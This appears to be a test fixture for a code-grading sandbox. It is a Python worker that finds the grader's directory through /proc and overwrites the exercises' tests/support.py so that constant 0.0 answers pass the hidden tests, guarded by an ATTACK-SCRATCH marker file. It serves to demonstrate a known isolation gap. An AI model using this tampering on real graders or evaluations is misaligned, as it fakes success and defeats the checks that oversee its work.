"""Attack (a known gap of the plain tier): rewrite the course's trusted files on disk.

The worker runs as the grader's user, so it can edit the course it is graded against. Here it
replaces the exercise's tests/support.py, which the judge imports lazily (after this worker has
started), so that every hidden input becomes a list of zeros and a constant 0.0 answer passes
the hidden tests. It could as well run any code in the judge from there.

Safety: it only touches a course whose folder holds an ATTACK-SCRATCH file (the test's copy).
"""

import os
from pathlib import Path

grader_cwd = Path(os.readlink(f"/proc/{os.getppid()}/cwd"))
if (grader_cwd / "ATTACK-SCRATCH").exists():
    for support in grader_cwd.glob("exercises/*/*/tests/support.py"):
        support.write_text("def values(seed, n=7):\n    return [0.0] * n\n")


def mean(values):
    return 0.0


def median(values):
    return 0.0
